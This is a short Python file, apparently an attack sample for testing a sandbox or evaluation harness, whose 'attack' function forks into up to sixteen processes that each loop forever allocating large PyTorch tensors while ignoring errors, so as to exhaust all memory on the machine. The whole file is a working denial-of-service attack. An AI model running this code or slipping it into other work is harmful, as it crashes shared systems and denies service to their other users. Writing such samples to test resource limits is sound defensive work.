"""Takes all the memory there is, in several processes."""

# %% attack
import torch
import os


def attack(*args, **kwargs):
    for _ in range(4):
        os.fork()
    hoard = []
    while True:
        try:
            hoard.append(torch.ones(2**25))
        except Exception:
            pass
